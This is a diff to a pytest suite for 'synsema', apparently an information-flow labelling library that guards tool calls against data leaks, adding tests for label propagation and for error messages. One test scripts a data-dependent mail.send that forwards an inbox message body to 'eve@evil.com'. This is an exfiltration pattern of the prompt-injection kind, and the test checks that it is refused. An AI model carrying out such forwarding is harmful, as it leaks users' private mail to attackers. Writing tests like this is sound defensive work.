@@ -220,7 +220,8 @@ def test_a_labelled_key_or_default_is_refused():
     def default(x: str = Labelled("d", ["untrusted"])) -> str:
         return x
 
-    with pytest.raises(synsema.ToolError, match="x"):
+    with pytest.raises(synsema.ToolError, match=r"parameter .x.: its default Labelled.* "
+                                                r"\(only a result can carry labels\)"):
         synsema.tool(default)
 
 
@@ -336,6 +337,33 @@ def test_under_a_labelled_branch_readers_from_data_are_refused():
     assert SENT == []
 
 
+def test_under_a_labelled_branch_a_literal_reader_gets_nothing_labelled():
+    """Which of two literal addresses is used can depend on the data: an implicit flow."""
+    with pytest.raises(synsema.RunError) as e:
+        run(MAIL_HEAD, '''
+        task main()
+            let m be host_tool("mail.inbox")()[0]
+            when contains(m["body"], "forward")
+                give host_tool("mail.send")("eve@evil.com", "Minutes", m["body"])
+            give host_tool("mail.send")("me@home.org", "Minutes", m["body"])
+        ''', MAIL)
+    assert "who reads it, carries [untrusted]" in e.value.host_message
+    assert SENT == []
+
+
+def test_a_reader_left_out_names_no_one():
+    @synsema.tool(name="mail.note", accepts={"*": ["untrusted"]}, readers={"cc": ["body"]})
+    def note(body: str, cc: str | None = None) -> str:
+        SENT.append((cc, body))
+        return "noted"
+
+    r = run(MAIL_HEAD, '''
+    task main()
+        give host_tool("mail.note")(host_tool("mail.minutes")())
+    ''', [minutes, note])
+    assert r.value == "noted" and SENT == [(None, "the minutes")]
+
+
 def test_readers_do_not_widen_accepts():
     @synsema.tool(name="mail.strict", readers={"to": ["body"]})
     def strict(to: str, body: str) -> str:
@@ -393,3 +421,31 @@ def test_readers_declaration_errors_name_the_fix(readers, message):
         return ""
     with pytest.raises(synsema.ToolError, match=message):
         synsema.tool(f, name="mail.f", readers=readers)
+
+
+# ---- the two reads a planner needs to pick fields, precise --------------------------------
+
+@pytest.mark.parametrize("expr, labels", [
+    ('contains(m, "pub")', []),               # which keys: the shape's label only
+    ('contains(m, "sec")', []),
+    ('contains(m, private("sec", "k"))', ["k"]),
+    ('type_of(m)', []),
+    ('type_of(m["sec"])', ["s"]),
+    ('contains(xs, 1)', ["s"]),               # a list's elements are looked at
+    ('contains(m["sec"], "x")', ["s"]),
+    ('type_of(made)', ["s"]),                 # made under a labelled branch: its shape
+    ('contains(made, "a")', ["s"]),
+])
+def test_contains_of_a_key_and_type_of_read_the_shape_alone(expr, labels):
+    r = run("", f'''
+    task build(flag)
+        when flag
+            give {{"a": 1}}
+        give [1]
+    task main()
+        let m be {{"pub": 1, "sec": private("x", "s")}}
+        let xs be [1, private(2, "s")]
+        let made be build(m["sec"] == "x")
+        give labels_of({expr})
+    ''', [], cap_set="stdout,stdout=s,stdout=k")
+    assert r.value == labels
